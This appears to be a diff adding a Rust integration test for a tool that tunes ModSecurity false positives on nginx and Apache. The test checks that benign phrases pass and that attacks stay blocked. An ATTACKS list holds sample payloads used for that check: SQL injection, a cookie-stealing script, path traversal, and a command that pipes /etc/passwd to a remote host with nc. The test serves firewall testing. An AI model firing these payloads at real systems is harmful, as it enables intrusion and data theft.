@@ -1,0 +1,279 @@
+//! `tollgate waf tune` on logs of real ModSecurity: derived, applied to the same server, and sent again, as docs/tuning.md tells.
+
+use crate::support::{Workspace, show, stdout, wait_until};
+use std::fs;
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+const CONFIG: &str = r#"
+load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;
+daemon off;
+worker_processes 1;
+pid FOLDER/nginx.pid;
+error_log FOLDER/error.log info;
+events { worker_connections 64; }
+http {
+    access_log off;
+    client_body_temp_path FOLDER/body;
+    proxy_temp_path FOLDER/proxy;
+    fastcgi_temp_path FOLDER/fastcgi;
+    uwsgi_temp_path FOLDER/uwsgi;
+    scgi_temp_path FOLDER/scgi;
+    server {
+        listen 127.0.0.1:PORT;
+        modsecurity on;
+        modsecurity_rules_file FOLDER/server.conf;
+        location / { proxy_pass http://127.0.0.1:PORT/page/; proxy_method GET; proxy_pass_request_body off; proxy_set_header Content-Length ""; }
+        location /page/ { modsecurity off; return 200 page; }
+    }
+}
+"#;
+
+const SERVER: &str = r#"
+SecRuleEngine On
+SecRequestBodyAccess On
+SecAuditEngine RelevantOnly
+SecAuditLogRelevantStatus "^(?:4|5)"
+SecAuditLogParts ABCFHZ
+SecAuditLogFormat FORMAT
+SecAuditLog FOLDER/audit.log
+Include FOLDER/crs-setup.conf
+Include FOLDER/exclusions.conf
+Include FOLDER/rules/*.conf
+"#;
+
+/// Ordinary texts that the Core Rule Set takes for attacks, each for one kind.
+const PLANTED: [&str; 5] = [
+    "the union will select new members from region",
+    "please edit the .htaccess file of site",
+    "the manual explains file_get_contents on page",
+    "I lost the powershell.exe icon of machine",
+    "read information_schema in the handbook, chapter",
+];
+
+const ORDINARY: [&str; 4] = [
+    "thanks for the quick reply, order",
+    "does this shirt come in blue? number",
+    "we meet at the union station, platform",
+    "my favourite select menu has options:",
+];
+
+const ATTACKS: [&str; 4] = [
+    "1' or '1'='1' union select password from users -- ",
+    "<script>alert(document.cookie)</script>",
+    "../../../../etc/passwd",
+    "; cat /etc/passwd | nc 192.0.2.1 80",
+];
+
+const PLACES: [(&str, &str); 4] = [
+    ("/blog/comment", "text"),
+    ("/forum/17/reply", "body"),
+    ("/support/ticket", "message"),
+    ("/wiki/edit", "content"),
+];
+
+struct Nginx {
+    process: Child,
+    port: u16,
+}
+
+impl Drop for Nginx {
+    fn drop(&mut self) {
+        // TERM, so that the workers end as well.
+        Command::new("kill").arg(self.process.id().to_string()).status().ok();
+        self.process.wait().ok();
+    }
+}
+
+impl Nginx {
+    fn start(workspace: &Workspace, format: &str) -> Self {
+        let folder = workspace.path(".");
+        let port = TcpListener::bind("127.0.0.1:0")
+            .and_then(|one| one.local_addr())
+            .expect("a free port")
+            .port();
+        let fill = |text: &str| {
+            text.replace("FOLDER", folder.to_str().expect("a path in UTF-8"))
+                .replace("PORT", &port.to_string())
+                .replace("FORMAT", format)
+        };
+        workspace.write("nginx.conf", &fill(CONFIG));
+        workspace.write("server.conf", &fill(SERVER));
+        let mut command = Command::new("/usr/sbin/nginx");
+        command.arg("-e").arg(folder.join("start.log")).arg("-p").arg(&folder);
+        command.arg("-c").arg(folder.join("nginx.conf"));
+        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
+        let process = command.spawn().expect("nginx is not installed; run `make packages`");
+        let mut nginx = Self { process, port };
+        let is_up = wait_until(Duration::from_secs(120), || {
+            TcpStream::connect(("127.0.0.1", port)).is_ok()
+                || nginx.process.try_wait().is_ok_and(|status| status.is_some())
+        });
+        let is_running = nginx.process.try_wait().is_ok_and(|status| status.is_none());
+        assert!(is_up && is_running, "{}", workspace.read("start.log"));
+        nginx
+    }
+
+    /// Sends a form and returns the status.
+    fn status(&self, path: &str, key: &str, value: &str) -> u16 {
+        let encoded: String = value
+            .bytes()
+            .map(|byte| match byte {
+                byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
+                byte => format!("%{byte:02X}"),
+            })
+            .collect();
+        let body = format!("{key}={encoded}");
+        let request = format!(
+            "POST {path} HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\
+             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        let mut stream = TcpStream::connect(("127.0.0.1", self.port)).expect("nginx accepts");
+        stream.set_read_timeout(Some(Duration::from_secs(60))).expect("a timeout");
+        stream.write_all(request.as_bytes()).expect("nginx reads");
+        let mut response = Vec::new();
+        stream.read_to_end(&mut response).expect("nginx responds");
+        let text = String::from_utf8_lossy(&response);
+        text.split(' ').nth(1).and_then(|status| status.parse().ok()).expect("a status")
+    }
+
+    /// Sends ordinary requests with planted false positives. Returns how many of each are blocked.
+    fn send_ordinary(&self) -> (usize, usize) {
+        let is_blocked = |text: &str, number: usize| {
+            let (path, key) = PLACES[number % PLACES.len()];
+            self.status(path, key, &format!("{text} {number}")) == 403
+        };
+        let count = |texts: &[&str], requests: usize| {
+            (0..requests).filter(|number| is_blocked(texts[number % texts.len()], *number)).count()
+        };
+        (count(&PLANTED, 100), count(&ORDINARY, 200))
+    }
+
+    fn blocked_attacks(&self) -> usize {
+        let places = PLACES.iter().map(|(path, _)| (*path, "other")).chain([("/", "q")]);
+        let requests = places.flat_map(|place| ATTACKS.map(|attack| (place, attack)));
+        requests.filter(|((path, key), attack)| self.status(path, key, attack) == 403).count()
+    }
+}
+
+fn workspace() -> Workspace {
+    let workspace = Workspace::concurrent();
+    let setup = fs::read_to_string("/etc/modsecurity/crs/crs-setup.conf")
+        .expect("modsecurity-crs is not installed; run `make packages`");
+    workspace.write("crs-setup.conf", &setup);
+    workspace.write("exclusions.conf", "");
+    let rules = fs::read_dir("/usr/share/modsecurity-crs/rules").expect("the rules of the package");
+    for entry in rules {
+        let path = entry.expect("a file of the package").path();
+        let name = path.file_name().and_then(|name| name.to_str()).expect("a name in UTF-8");
+        workspace
+            .write(&format!("rules/{name}"), &fs::read_to_string(&path).expect("rules in UTF-8"));
+    }
+    // Payloads for the proof.
+    let test = |number: usize, attack: &str| {
+        format!(
+            "  - test_id: {number}\n    stages:\n      - input: {{method: POST, headers: {{Host: a, User-Agent: x, Accept: '*/*'}}, data: {}}}\n\
+             \x20       output: {{log: {{expect_ids: [1]}}}}\n",
+            serde_json::to_string(&format!("q={attack}")).expect("a text")
+        )
+    };
+    let attacks: String = ATTACKS
+        .iter()
+        .chain(&PLANTED[..1])
+        .enumerate()
+        .map(|(at, one)| test(at + 1, one))
+        .collect();
+    workspace.write("tests/all.yaml", &format!("rule_id: 1\ntests:\n{attacks}"));
+    // The workers of a master that root starts run as another user.
+    let folder = workspace.path(".");
+    Command::new("chmod").args(["-R", "a+rwX"]).arg(&folder).status().expect("chmod");
+    workspace
+}
+
+/// The commands of docs/tuning.md, in their order.
+fn commands() -> Vec<Vec<&'static str>> {
+    let lines = include_str!("../../docs/tuning.md").lines();
+    let commands = lines.filter_map(|line| line.strip_prefix("    tollgate "));
+    commands
+        .map(|command| command.split(" #").next().unwrap_or(command).split_whitespace().collect())
+        .collect()
+}
+
+fn tells_the_story(format: &str) {
+    let workspace = workspace();
+    let commands = commands();
+    let [replay, tune, again] = &commands[..] else { panic!("{commands:?}") };
+    let blocked_before = {
+        let nginx = Nginx::start(&workspace, format);
+        assert_eq!(
+            nginx.send_ordinary(),
+            (100, 0),
+            "planted false positives, and ordinary requests"
+        );
+        nginx.blocked_attacks()
+    };
+    assert_eq!(blocked_before, PLACES.len() * ATTACKS.len() + ATTACKS.len());
+    let output = workspace.run(replay);
+    assert_eq!(output.status.code(), Some(0), "{}", show(&output));
+    assert!(stdout(&output).contains("120 requests, 120 would be blocked"), "{}", show(&output));
+    let output = workspace.run(tune);
+    assert_eq!(output.status.code(), Some(0), "{}", show(&output));
+    let text = stdout(&output);
+    assert!(text.contains("let 100 of them pass."), "{text}");
+    // The phrase that is itself a payload passes where it is benign, and the report says so.
+    assert!(text.contains("lets through 1 of "), "{text}");
+    let output = workspace.run(again);
+    assert!(stdout(&output).contains("120 requests, 20 would be blocked"), "{}", show(&output));
+    let nginx = Nginx::start(&workspace, format);
+    let (planted, ordinary) = nginx.send_ordinary();
+    assert!(planted <= 5 && ordinary == 0, "{planted} of 100 false positives are left: {text}");
+    assert_eq!(nginx.blocked_attacks(), blocked_before, "{text}");
+    assert_parses(&workspace, tune);
+}
+
+/// Apache with ModSecurity 2 reads exclusions for it.
+fn assert_parses(workspace: &Workspace, tune: &[&str]) {
+    let for_second: Vec<&str> = tune
+        .iter()
+        .map(|word| if *word == "modsecurity3" { "modsecurity2" } else { word })
+        .collect();
+    let output = workspace.run(&for_second);
+    assert_eq!(output.status.code(), Some(0), "{}", show(&output));
+    let folder = workspace.path(".");
+    let modules = Path::new("/usr/lib/apache2/modules");
+    let load =
+        |name: &str, file: &str| format!("LoadModule {name} {}\n", modules.join(file).display());
+    let config = [
+        load("mpm_event_module", "mod_mpm_event.so"),
+        load("authz_core_module", "mod_authz_core.so"),
+        load("unique_id_module", "mod_unique_id.so"),
+        load("security2_module", "mod_security2.so"),
+        format!(
+            "ServerName localhost\nListen 127.0.0.1:1\nErrorLog {0}/apache.log\nPidFile {0}/apache.pid\n",
+            folder.display()
+        ),
+        format!("Include {}\n", folder.join("exclusions.conf").display()),
+    ];
+    workspace.write("apache.conf", &config.concat());
+    let output = Command::new("/usr/sbin/apache2")
+        .arg("-t")
+        .arg("-f")
+        .arg(folder.join("apache.conf"))
+        .output();
+    let output = output.expect("Apache is not installed; run `make packages`");
+    assert!(output.status.success(), "{}\n{}", show(&output), workspace.read("exclusions.conf"));
+}
+
+#[test]
+fn false_positives_in_a_native_log_end_and_attacks_stay_blocked() {
+    tells_the_story("Native");
+}
+
+#[test]
+fn false_positives_in_a_json_log_end_and_attacks_stay_blocked() {
+    tells_the_story("JSON");
+}
